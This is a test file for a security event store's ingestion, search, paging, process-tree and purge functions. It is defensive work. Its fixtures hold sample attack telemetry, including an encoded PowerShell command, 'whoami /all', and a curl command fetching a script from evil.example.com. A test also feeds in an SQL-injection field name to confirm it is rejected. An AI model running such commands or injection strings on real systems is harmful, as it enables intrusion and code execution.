import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { sql } from "kysely";
import { ValidationError } from "../core/index.js";
import { normaliseEvent } from "../detect/engine.js";
import { readJsonDocuments, sharedPath } from "../../test/support/shared.js";
import { openTestEnvironment, testStoreKind, type TestEnvironment } from "../../test/support/store.js";
import {
  countEvents,
  eventKey,
  eventsAround,
  getEvents,
  insertEvents,
  loadDetectionState,
  processTree,
  purgeEvents,
  saveDetectionState,
  searchEvents,
  toNewEvent,
  type NewEvent,
  type ProcessNode,
  type StoredEvent,
} from "./index.js";

const RECEIVED = "2026-11-24T10:00:00.000Z";
const SYSMON = "Microsoft-Windows-Sysmon/Operational";

function at(minute: number, second = 0, ms = 0): string {
  return new Date(Date.UTC(2026, 10, 24, 9, minute, second, ms)).toISOString();
}

function newEvent(data: Record<string, unknown>, record = 0): NewEvent {
  return toNewEvent(data, { file: "test.json", record }, RECEIVED);
}

function sysmon(fields: Record<string, unknown>): Record<string, unknown> {
  return { Channel: SYSMON, Provider_Name: "Microsoft-Windows-Sysmon", ...fields };
}

async function expectValidationError(promise: Promise<unknown>, path: string) {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ValidationError);
  expect((error as ValidationError).issues.map((i) => i.path)).toContain(path);
}

const ids = (events: StoredEvent[]) => events.map((e) => e.id);

function flatten(node: ProcessNode, depth = 0): string[] {
  const name = (node.event.process ?? "?").split("\\").pop()!;
  return [`${"  ".repeat(depth)}${name}`, ...node.children.flatMap((c) => flatten(c, depth + 1))];
}

describe(`event store (${testStoreKind()})`, () => {
  let env: TestEnvironment;
  beforeEach(async () => {
    env = await openTestEnvironment();
  });
  afterEach(async () => {
    await env.cleanup();
  });
  const db = () => env.store.db;

  describe("toNewEvent", () => {
    it("reads Sysmon process creation from a SigmaHQ twin", async () => {
      const file = sharedPath(
        "data/sigma/regression_data/regression_data/rules/windows/process_creation/proc_creation_win_findstr_security_keyword_lookup/4fe074b4-b833-4081-8f24-7dcfeca72b42.json",
      );
      const [document] = await readJsonDocuments(file);
      const event = newEvent(normaliseEvent(document!));
      expect(event).toMatchObject({
        time: "2025-10-25T13:52:18.663Z",
        host: "ar-win-dc.attackrange.local",
        process: "C:\\Windows\\System32\\cmd.exe",
        process_id: "5144",
        process_guid: "5AA13A44-D612-68FC-1931-000000004002",
        parent_process_id: "6304",
        parent_process_guid: "5AA13A44-0FEC-68FC-281E-000000004002",
        parent_process: "C:\\Windows\\System32\\cmd.exe",
        event_id: "1",
        channel: SYSMON,
        provider: "Microsoft-Windows-Sysmon",
        origin: { file: "test.json", record: 0 },
      });
      expect(event.user).toMatch(/\\/);
    });

    it("reads Security 4688 pids in hex, the creator's parent pid, and the new process name", () => {
      const event = newEvent({
        EventID: 4688,
        Channel: "Security",
        Computer: "WS-01",
        SubjectUserName: "alice",
        TargetUserName: "-",
        NewProcessName: "C:\\Windows\\System32\\whoami.exe",
        NewProcessId: "0x1a2c",
        ProcessId: "0x10",
        ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
        TimeCreated_SystemTime: "2026-11-24T09:00:00.123456Z",
      });
      expect(event).toMatchObject({
        host: "WS-01",
        user: "alice",
        process: "C:\\Windows\\System32\\whoami.exe",
        process_id: "6700",
        parent_process_id: "16",
        parent_process: "C:\\Windows\\System32\\cmd.exe",
        event_id: "4688",
        time: "2026-11-24T09:00:00.123Z",
      });
    });

    it("reads nested ECS fields and falls back to the receive time", () => {
      const event = newEvent({
        host: { name: "web-1" },
        user: { name: "www-data" },
        process: { executable: "/usr/bin/curl", pid: 4242, parent: { pid: 1, executable: "/bin/sh" }, entity_id: "abc" },
        event: { category: ["process"], type: ["start"] },
      });
      expect(event).toMatchObject({
        host: "web-1",
        user: "www-data",
        process: "/usr/bin/curl",
        process_id: "4242",
        parent_process_id: "1",
        parent_process: "/bin/sh",
        process_guid: "ABC",
        time: RECEIVED,
      });
    });

    it("reads auditd execve records as process creations", async () => {
      const event = newEvent({ type: "SYSCALL", syscall: "execve", node: "db-2", hostname: "10.0.0.9", UID: "postgres", exe: "/usr/bin/curl", pid: "900", ppid: "899" });
      expect(event).toMatchObject({ host: "db-2", user: "postgres", process: "/usr/bin/curl", process_id: "900", parent_process_id: "899" });
      const shell = newEvent({ type: "SYSCALL", syscall: "execve", node: "db-2", exe: "/bin/bash", pid: "899", ppid: "1", time: "2026-11-24T08:00:00Z" });
      const other = newEvent({ type: "SYSCALL", syscall: "openat", node: "db-2", exe: "/usr/bin/cat", pid: "901", ppid: "899" });
      await insertEvents(db(), [shell, event, other]);
      const tree = await processTree(db(), { host: "DB-2", process_id: 900 });
      expect(tree!.event.id).toBe(shell.id);
      expect(tree!.children.map((c) => c.event.id)).toEqual([event.id]);
    });

    it("keys an event by its content, whatever the key order", () => {
      expect(eventKey({ a: 1, b: { c: 2, d: 3 } })).toBe(eventKey({ b: { d: 3, c: 2 }, a: 1 }));
      expect(eventKey({ a: 1 })).not.toBe(eventKey({ a: 2 }));
      expect(newEvent({ a: 1 }).id).toBe(eventKey({ a: 1 }));
    });
  });

  describe("insert and get", () => {
    it("stores an event once, within one batch and across batches", async () => {
      const event = newEvent(sysmon({ EventID: 1, Computer: "ws-01", UtcTime: "2026-11-24 09:00:00.000", Marker: "unique-word zebrafish" }));
      const other = newEvent(sysmon({ EventID: 3, Computer: "ws-01", UtcTime: "2026-11-24 09:00:01.000" }));
      const first = await insertEvents(db(), [event, other, { ...event, origin: { file: "again.json", record: 7 } }]);
      expect(first).toEqual({ inserted: [event.id, other.id], duplicates: [event.id] });
      const second = await db().transaction().execute((trx) => insertEvents(trx, [event]));
      expect(second).toEqual({ inserted: [], duplicates: [event.id] });
      const rows = await db().selectFrom("events").select("id").execute();
      expect(rows).toHaveLength(2);
      const found = await searchEvents(db(), { text: "zebrafish" });
      expect(ids(found.events)).toEqual([event.id]);
      expect((await getEvents(db(), [event.id]))[0]!.origin).toEqual({ file: "test.json", record: 0 });
    });

    it("returns events in the order asked, skipping missing ids, exactly as stored", async () => {
      const a = newEvent({ EventID: 1, Computer: "a", UtcTime: "2026-11-24 09:00:00", nested: { list: [1, "x", true, null] } });
      const b = newEvent({ EventID: 2, Computer: "b", UtcTime: "2026-11-24 09:00:01" });
      await insertEvents(db(), [a, b]);
      const got = await getEvents(db(), [b.id, "missing", a.id]);
      expect(got).toEqual([b, a]);
    });

    it("stores NUL characters and lone surrogates as U+FFFD on both backends", async () => {
      const event = newEvent({ Computer: "h\u0000x", Blob: "ab\u0000cd", Odd: "x\uD800y", "k\u0000": 1, Pair: "😀", UtcTime: at(1) });
      expect((await insertEvents(db(), [event])).inserted).toEqual([event.id]);
      const [stored] = await getEvents(db(), [event.id]);
      expect(stored!.host).toBe("h\uFFFDx");
      expect(stored!.data).toEqual({ Computer: "h\uFFFDx", Blob: "ab\uFFFDcd", Odd: "x\uFFFDy", "k\uFFFD": 1, Pair: "😀", UtcTime: at(1) });
      expect(ids((await searchEvents(db(), { filters: [{ field: "Blob", value: "ab*cd" }] })).events)).toEqual([event.id]);
      expect(ids((await searchEvents(db(), { text: "cd" })).events)).toEqual([event.id]);
    });

    it("rejects an invalid event and writes nothing", async () => {
      const good = newEvent({ EventID: 1, UtcTime: "2026-11-24 09:00:00" });
      const bad = { ...newEvent({ EventID: 2 }), time: "yesterday" };
      await expectValidationError(insertEvents(db(), [good, bad]), "events.1.time");
      expect(await db().selectFrom("events").select("id").execute()).toEqual([]);
    });

    it("inserts batches larger than one statement", async () => {
      const events = Array.from({ length: 2500 }, (_, i) => newEvent({ EventID: 1, Computer: `h${i % 7}`, UtcTime: at(i % 60, i % 59), n: i }, i));
      const result = await db().transaction().execute((trx) => insertEvents(trx, events));
      expect(result.inserted).toHaveLength(2500);
      expect((await searchEvents(db(), { host: "h3", limit: 1 })).total).toBe(events.filter((e) => e.host === "h3").length);
      expect(ids((await searchEvents(db(), { text: "2499" })).events)).toEqual([events[2499]!.id]);
    });
  });

  describe("search", () => {
    const E = {
      ps: newEvent(
        sysmon({
          EventID: 1,
          Computer: "WS-01.corp.local",
          User: "CORP\\Alice",
          Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          CommandLine: "powershell.exe -enc SQBFAFgA -nop",
          UtcTime: "2026-11-24 09:00:00.000",
          Elevated: true,
        }),
      ),
      cmd: newEvent(
        sysmon({
          EventID: 1,
          Computer: "ws-01",
          User: "OTHER\\alice",
          Image: "C:\\Windows\\System32\\cmd.exe",
          CommandLine: 'cmd.exe /c "whoami /all"',
          UtcTime: "2026-11-24 09:05:00.000",
          Elevated: false,
        }),
      ),
      dns: newEvent(
        sysmon({
          EventID: 22,
          Computer: "ws-010",
          User: "bob",
          Image: "C:\\Program Files\\App\\app.exe",
          QueryName: "evil.example.com",
          UtcTime: "2026-11-24 09:10:00.000",
        }),
      ),
      logon: newEvent({
        EventID: 4624,
        Channel: "Security",
        Computer: "dc-1",
        TargetUserName: "alice",
        LogonType: 3,
        Note: "a OR b (near) * -x",
        TimeCreated_SystemTime: "2026-11-24T09:15:00.000Z",
      }),
      ecs: newEvent({
        "@timestamp": "2026-11-24T09:20:00.000Z",
        host: { name: "web-1" },
        user: { name: "www-data" },
        "process.executable": "/usr/bin/curl",
        process: { pid: 77, command_line: "curl http://evil.example.com/x.sh" },
      }),
    };
    const all = Object.values(E);
    beforeEach(async () => {
      await insertEvents(db(), all);
    });
    const search = async (query: Parameters<typeof searchEvents>[1]) => ids((await searchEvents(db(), query)).events).sort();
    const sorted = (...events: NewEvent[]) => ids(events).sort();

    it("orders newest first by default, oldest first on request, and counts the total", async () => {
      const desc = await searchEvents(db(), {});
      expect(ids(desc.events)).toEqual(ids([E.ecs, E.logon, E.dns, E.cmd, E.ps]));
      expect(desc.total).toBe(5);
      expect(desc.next_cursor).toBeNull();
      const asc = await searchEvents(db(), { order: "asc", limit: 2 });
      expect(ids(asc.events)).toEqual(ids([E.ps, E.cmd]));
      expect(asc.total).toBe(5);
      expect(asc.next_cursor).not.toBeNull();
    });

    it("bounds time with an inclusive from and an exclusive to", async () => {
      expect(await search({ from: "2026-11-24T09:05:00Z", to: "2026-11-24T09:15:00Z" })).toEqual(sorted(E.cmd, E.dns));
      expect(await search({ from: "2026-11-24T09:05:00.001Z" })).toEqual(sorted(E.dns, E.logon, E.ecs));
      expect(await search({ to: "2026-11-24T09:00:00Z" })).toEqual([]);
    });

    it("matches hosts case-insensitively, short names finding fully qualified ones", async () => {
      expect(await search({ host: "ws-01" })).toEqual(sorted(E.ps, E.cmd));
      expect(await search({ host: "WS-01.CORP.LOCAL" })).toEqual(sorted(E.ps));
      expect(await search({ host: "ws-0" })).toEqual([]);
      expect(await search({ host: "WEB-1" })).toEqual(sorted(E.ecs));
    });

    it("matches users with or without their domain", async () => {
      expect(await search({ user: "alice" })).toEqual(sorted(E.ps, E.cmd, E.logon));
      expect(await search({ user: "corp\\ALICE" })).toEqual(sorted(E.ps, E.logon));
      expect(await search({ user: "carol" })).toEqual([]);
    });

    it("matches processes by name, with or without .exe, or by full path", async () => {
      expect(await search({ process: "powershell" })).toEqual(sorted(E.ps));
      expect(await search({ process: "CMD.EXE" })).toEqual(sorted(E.cmd));
      expect(await search({ process: "c:\\windows\\system32\\cmd.exe" })).toEqual(sorted(E.cmd));
      expect(await search({ process: "d:\\cmd.exe" })).toEqual([]);
      expect(await search({ process: "curl" })).toEqual(sorted(E.ecs));
    });

    it("matches event ids given as numbers or text, and channels case-insensitively", async () => {
      expect(await search({ event_id: 1 })).toEqual(sorted(E.ps, E.cmd));
      expect(await search({ event_id: "4624" })).toEqual(sorted(E.logon));
      expect(await search({ event_id: 4688 })).toEqual([]);
      expect(await search({ channel: "security" })).toEqual(sorted(E.logon));
      expect(await search({ channel: "System" })).toEqual([]);
      expect(await search({ channel: SYSMON.toUpperCase(), host: "ws-01", event_id: 1, user: "corp\\alice" })).toEqual(sorted(E.ps));
    });

    it("filters on data fields: eq with wildcards, neq, contains, exists, flat and dotted keys", async () => {
      expect(await search({ filters: [{ field: "commandline", value: "x" }] })).toEqual([]);
      expect(await search({ filters: [{ field: "CommandLine", value: "POWERSHELL.EXE -enc*" }] })).toEqual(sorted(E.ps));
      expect(await search({ filters: [{ field: "CommandLine", value: "powershell.exe" }] })).toEqual([]);
      expect(await search({ filters: [{ field: "CommandLine", value: "WHOAMI", op: "contains" }] })).toEqual(sorted(E.cmd));
      expect(await search({ filters: [{ field: "CommandLine", value: "%", op: "contains" }] })).toEqual([]);
      expect(await search({ filters: [{ field: "CommandLine", value: "_", op: "contains" }] })).toEqual([]);
      expect(await search({ filters: [{ field: "QueryName", value: "", op: "exists" }] })).toEqual(sorted(E.dns));
      expect(await search({ filters: [{ field: "EventID", value: "1", op: "neq" }] })).toEqual(sorted(E.dns, E.logon, E.ecs));
      expect(await search({ filters: [{ field: "LogonType", value: 3 }] })).toEqual(sorted(E.logon));
      expect(await search({ filters: [{ field: "Elevated", value: true }] })).toEqual(sorted(E.ps));
      expect(await search({ filters: [{ field: "Elevated", value: "false" }] })).toEqual(sorted(E.cmd));
      expect(await search({ filters: [{ field: "host.name", value: "web-*" }] })).toEqual(sorted(E.ecs));
      expect(await search({ filters: [{ field: "process.executable", value: "*curl" }] })).toEqual(sorted(E.ecs));
      expect(await search({ filters: [{ field: "process.pid", value: "77" }] })).toEqual(sorted(E.ecs));
      expect(await search({ filters: [{ field: "process.pid", value: "78" }] })).toEqual([]);
      expect(
        await search({
          filters: [
            { field: "Image", value: "*\\system32\\*" },
            { field: "User", value: "other\\*" },
          ],
        }),
      ).toEqual(sorted(E.cmd));
    });

    it("refuses field names that are not data keys", async () => {
      await expectValidationError(searchEvents(db(), { filters: [{ field: "a') OR 1=1 --", value: "x" }] }), "filters.0.field");
      await expectValidationError(searchEvents(db(), { filters: [{ field: 'x"].y', value: "x" }] }), "filters.0.field");
      await expectValidationError(searchEvents(db(), { fields: ["ok", "no space"] }), "fields.1");
      await expectValidationError(searchEvents(db(), { limit: 1001 }), "limit");
      await expectValidationError(searchEvents(db(), { from: "not a time" }), "from");
      await expectValidationError(searchEvents(db(), { hostname: "x" } as never), "");
    });

    it("searches full text over string values, treating query syntax as plain words", async () => {
      expect(await search({ text: "evil.example.com" })).toEqual(sorted(E.dns, E.ecs));
      expect(await search({ text: "SQBFAFgA" })).toEqual(sorted(E.ps));
      expect(await search({ text: "whoami" })).toEqual(sorted(E.cmd));
      expect(await search({ text: '"cmd exe"' })).toEqual(sorted(E.cmd));
      expect(await search({ text: '"whoami all"' })).toEqual(sorted(E.cmd));
      expect(await search({ text: '"all whoami"' })).toEqual([]);
      expect(await search({ text: "exe cmd" })).toEqual(sorted(E.cmd));
      expect(await search({ text: "who*" })).toEqual(sorted(E.cmd));
      expect(await search({ text: "who" })).toEqual([]);
      expect(await search({ text: "a OR b" })).toEqual(sorted(E.logon));
      expect(await search({ text: "whoami OR curl" })).toEqual([]);
      expect(await search({ text: "NOT whoami" })).toEqual([]);
      expect(await search({ text: '(near) "unbalanced' })).toEqual([]);
      expect(await search({ text: "-x" })).toEqual(sorted(E.logon, E.ecs));
      expect(await search({ text: 'whoami"' })).toEqual(sorted(E.cmd));
      expect(await search({ text: 'whoami" AND "' })).toEqual([]);
      expect(await search({ text: "NEAR(a b) col:x ^ {c} + ***" })).toEqual([]);
      expect(await search({ text: "*" })).toHaveLength(all.length);
      expect(await search({ text: "CommandLine" })).toEqual([]);
    });

    it("projects data to the fields asked, keeping id and time", async () => {
      const [event] = (await searchEvents(db(), { host: "web-1", fields: ["process.pid", "host.name", "absent"] })).events;
      expect(event).toMatchObject({ id: E.ecs.id, time: E.ecs.time, data: { "process.pid": 77, "host.name": "web-1" } });
      expect(Object.keys(event!.data).sort()).toEqual(["host.name", "process.pid"]);
    });

    it("counts by host, user, event id, process and channel", async () => {
      expect(await countEvents(db(), {}, "event_id")).toEqual([
        { key: "1", count: 2 },
        { key: "22", count: 1 },
        { key: "4624", count: 1 },
        { key: null, count: 1 },
      ]);
      expect(await countEvents(db(), { user: "alice" }, "host")).toEqual([
        { key: "WS-01.corp.local", count: 1 },
        { key: "dc-1", count: 1 },
        { key: "ws-01", count: 1 },
      ]);
      expect(await countEvents(db(), { event_id: 1, limit: 1 }, "channel")).toEqual([{ key: SYSMON, count: 2 }]);
      expect(await countEvents(db(), { text: "evil" }, "process")).toEqual([
        { key: "/usr/bin/curl", count: 1 },
        { key: "C:\\Program Files\\App\\app.exe", count: 1 },
      ]);
      expect(await countEvents(db(), { host: "nowhere" }, "user")).toEqual([]);
      await expectValidationError(countEvents(db(), {}, "severity" as never), "");
    });
  });

  describe("paging", () => {
    it("covers every event exactly once, in either order, across many equal times", async () => {
      const events = Array.from({ length: 137 }, (_, i) => newEvent({ EventID: 1, Computer: "h", UtcTime: at(i % 5), n: i }, i));
      await insertEvents(db(), [...events, newEvent({ EventID: 1, Computer: "other", UtcTime: at(2), n: -1 })]);
      for (const order of ["asc", "desc"] as const) {
        const seen: StoredEvent[] = [];
        let cursor: string | undefined;
        let pages = 0;
        do {
          const page = await searchEvents(db(), { host: "h", order, limit: 10, ...(cursor ? { cursor } : {}) });
          seen.push(...page.events);
          cursor = page.next_cursor ?? undefined;
          pages++;
        } while (cursor && pages < 100);
        expect(pages).toBe(14);
        expect(new Set(ids(seen)).size).toBe(137);
        expect(ids(seen).sort()).toEqual(ids(events).sort());
        const keys = seen.map((e) => `${e.time}|${e.id}`);
        const expected = [...keys].sort();
        expect(keys).toEqual(order === "asc" ? expected : expected.reverse());
      }
    });

    it("refuses a cursor it did not make, or one made for the other order", async () => {
      await insertEvents(db(), [1, 2, 3].map((n) => newEvent({ n, UtcTime: at(n) })));
      const page = await searchEvents(db(), { limit: 1 });
      expect(page.next_cursor).not.toBeNull();
      await expectValidationError(searchEvents(db(), { cursor: "garbage" }), "cursor");
      await expectValidationError(searchEvents(db(), { cursor: Buffer.from('{"o":"desc"}').toString("base64url") }), "cursor");
      await expectValidationError(searchEvents(db(), { cursor: page.next_cursor!, order: "asc" }), "cursor");
      const next = await searchEvents(db(), { cursor: page.next_cursor!, limit: 1 });
      expect(next.events[0]!.time).toBe(at(2));
      expect(next.total).toBeUndefined();
    });
  });

  describe("events around", () => {
    it("takes both window edges, leaves what is past them, and keeps the nearest past the limit", async () => {
      const on = (host: string, time: string, user = "u1") => newEvent({ Computer: host, User: user, "@timestamp": time });
      const anchor = at(30);
      const inside = [on("h1", at(15)), on("h1", at(29, 59)), on("h1", anchor), on("h1", at(31)), on("h1", at(45))];
      const outside = [on("h1", at(14, 59, 999)), on("h1", at(45, 0, 1)), on("h2", at(30))];
      await insertEvents(db(), [...inside, ...outside]);
      expect(ids(await eventsAround(db(), { host: "h1", time: anchor }))).toEqual(ids(inside));
      expect(ids(await eventsAround(db(), { host: "h1", time: anchor, limit: 3 }))).toEqual(ids([inside[1]!, inside[2]!, inside[3]!]));
      expect(ids(await eventsAround(db(), { host: "h1", time: anchor, before_minutes: 0, after_minutes: 1 }))).toEqual(ids([inside[2]!, inside[3]!]));
      expect(ids(await eventsAround(db(), { user: "U1", time: anchor, before_minutes: 0, after_minutes: 0 }))).toEqual(
        ids([inside[2]!, outside[2]!].sort((a, b) => (a.id < b.id ? -1 : 1))),
      );
      expect(await eventsAround(db(), { host: "h3", time: anchor })).toEqual([]);
      await expectValidationError(eventsAround(db(), { host: "h1", time: "noon" }), "time");
    });
  });

  describe("process tree", () => {
    const REGRESSION = "data/sigma/regression_data/regression_data/rules/windows/process_creation";
    async function loadSysmon(...files: string[]): Promise<NewEvent[]> {
      const events: NewEvent[] = [];
      for (const file of files) {
        const documents = await readJsonDocuments(sharedPath(REGRESSION, file));
        documents.forEach((d, i) => events.push(toNewEvent(normaliseEvent(d), { file, record: i }, RECEIVED)));
      }
      await insertEvents(db(), events);
      return events;
    }

    it("links real Sysmon process creations by guid, from the oldest known ancestor", async () => {
      await loadSysmon(
        "proc_creation_win_findstr_security_keyword_lookup/4fe074b4-b833-4081-8f24-7dcfeca72b42.json",
        "proc_creation_win_pua_trufflehog/44030449-b0df-4c94-aae1-502359ab28ee.json",
        "proc_creation_win_susp_script_interpretor_spawn_credential_scanner/0f60b28c-64dd-4e2c-9a63-5334d3e3a6e6.json",
      );
      const byGuid = await processTree(db(), { host: "ar-win-dc", process_guid: "{5aa13a44-d612-68fc-1a31-000000004002}" });
      expect(flatten(byGuid!)).toEqual(["cmd.exe", "  tasklist.exe", "  findstr.exe"]);
      expect(byGuid!.event.process_guid).toBe("5AA13A44-D612-68FC-1931-000000004002");
      const byPid = await processTree(db(), { host: "ar-win-dc.attackrange.local", process_id: 9052, time: "2025-10-25T14:00:00Z" });
      expect(byPid).toEqual(byGuid);
      expect(await processTree(db(), { host: "ar-win-dc", process_id: "9052", time: "2025-10-25T13:00:00Z" })).toBeNull();
      expect(await processTree(db(), { host: "other-host", process_guid: "5AA13A44-D612-68FC-1A31-000000004002" })).toBeNull();

      const truffle = (await searchEvents(db(), { process: "trufflehog" })).events[0]!;
      const tree = await processTree(db(), { host: truffle.host!, process_guid: truffle.process_guid! });
      const lines = flatten(tree!);
      expect(lines).toContain("  trufflehog.exe");
      expect(tree!.event.process_guid).toBe(truffle.parent_process_guid);
      await expectValidationError(processTree(db(), { host: "x" }), "process_guid");
    });

    it("links ECS process starts by entity id", async () => {
      const start = (minute: number, id: string, parent: string | null, executable: string, type = "start") =>
        newEvent({
          "@timestamp": at(minute),
          host: { name: "mac-1" },
          event: { category: ["process"], type: [type] },
          process: { entity_id: id, pid: minute, executable, ...(parent ? { parent: { entity_id: parent } } : {}) },
        });
      const events = [
        start(1, "p1", null, "/sbin/launchd"),
        start(2, "p2", "p1", "/bin/zsh"),
        start(3, "p3", "p2", "/usr/bin/osascript"),
        start(4, "p4", "p2", "/usr/bin/curl", "end"),
      ];
      await insertEvents(db(), events);
      const tree = await processTree(db(), { host: "mac-1", process_guid: "p3" });
      expect(tree!.event.id).toBe(events[0]!.id);
      expect(tree!.children.map((c) => c.event.id)).toEqual([events[1]!.id]);
      expect(tree!.children[0]!.children.map((c) => c.event.id)).toEqual([events[2]!.id]);
    });

    it("links Security 4688 creations by pid, a reused pid starting a new process", async () => {
      const create = (minute: number, pid: number, ppid: number, image: string) =>
        newEvent({
          EventID: 4688,
          Channel: "Security",
          Provider_Name: "Microsoft-Windows-Security-Auditing",
          Computer: "WS-02",
          SubjectUserName: "alice",
          NewProcessName: `C:\\Windows\\System32\\${image}`,
          NewProcessId: `0x${pid.toString(16)}`,
          ProcessId: `0x${ppid.toString(16)}`,
          TimeCreated_SystemTime: at(minute),
        });
      const events = [
        create(1, 0x100, 0x4, "explorer.exe"),
        create(2, 0x200, 0x100, "cmd.exe"),
        create(3, 0x300, 0x200, "whoami.exe"),
        create(4, 0x310, 0x200, "net.exe"),
        create(10, 0x200, 0x100, "powershell.exe"), // pid 0x200 reused
        create(11, 0x320, 0x200, "nltest.exe"),
        create(12, 0x330, 0x999, "orphan.exe"),
        newEvent({ EventID: 4624, Channel: "Security", Computer: "WS-02", ProcessId: "0x200", TimeCreated_SystemTime: at(3) }),
      ];
      await insertEvents(db(), events);
      const tree = await processTree(db(), { host: "ws-02", process_id: "0x300", time: at(5) });
      expect(flatten(tree!)).toEqual(["explorer.exe", "  cmd.exe", "    whoami.exe", "    net.exe", "  powershell.exe", "    nltest.exe"]);
      const orphan = await processTree(db(), { host: "ws-02", process_id: 0x330 });
      expect(flatten(orphan!)).toEqual(["orphan.exe"]);
    });
  });

  it("purges events stored before the cutoff (arrival time, not event time), with their full-text rows", async () => {
    const stored = (data: Record<string, unknown>, receivedAt: string) => toNewEvent(data, { file: "test.json", record: 0 }, receivedAt);
    // Event times are all old: a historical import is kept as long as it arrived recently.
    const old = stored({ UtcTime: "2020-01-01 00:00:00", Word: "ancientword" }, "2026-11-01T00:00:00.000Z");
    const edge = stored({ UtcTime: "2020-01-01 00:00:00", Word: "edgeword" }, "2026-11-10T00:00:00.000Z");
    const fresh = stored({ UtcTime: "2020-01-01 00:00:00", Word: "freshword" }, "2026-11-20T00:00:00.000Z");
    await insertEvents(db(), [old, edge, fresh]);
    expect(await purgeEvents(db(), "2026-11-10T00:00:00Z")).toBe(1);
    expect(ids(await getEvents(db(), [old.id, edge.id, fresh.id]))).toEqual([edge.id, fresh.id]);
    expect((await searchEvents(db(), { text: "ancientword" })).events).toEqual([]);
    expect(ids((await searchEvents(db(), { text: "edgeword" })).events)).toEqual([edge.id]);
    if (env.store.kind === "sqlite") {
      const { rows } = await sql<{ n: number }>`SELECT count(*) AS n FROM events_fts`.execute(db());
      expect(Number(rows[0]!.n)).toBe(2);
    }
    expect(await purgeEvents(db(), "2026-11-10T00:00:00Z")).toBe(0);
    await expectValidationError(purgeEvents(db(), "last week"), "");
    // A purged event can be stored again.
    expect((await insertEvents(db(), [old])).inserted).toEqual([old.id]);
  });

  it("saves and loads detection state inside transactions", async () => {
    expect(await loadDetectionState(db(), "sigma")).toBeNull();
    const state = { windows: { "rule-1": [{ at: "2026-11-24T09:00:00.000Z", n: 2 }] }, version: 1 };
    await db()
      .transaction()
      .execute(async (trx) => {
        expect(await loadDetectionState(trx, "sigma")).toBeNull();
        await saveDetectionState(trx, "sigma", state, "2026-11-24T10:00:00Z");
      });
    expect(await loadDetectionState(db(), "sigma")).toEqual(state);
    await saveDetectionState(db(), "sigma", { version: 2 }, "2026-11-24T11:00:00Z");
    expect(await loadDetectionState(db(), "sigma")).toEqual({ version: 2 });
    expect(await loadDetectionState(db(), "other")).toBeNull();
    const row = await db().selectFrom("detection_state").selectAll().where("id", "=", "sigma").executeTakeFirstOrThrow();
    expect(row.updated_at).toBe("2026-11-24T11:00:00.000Z");
  });
});
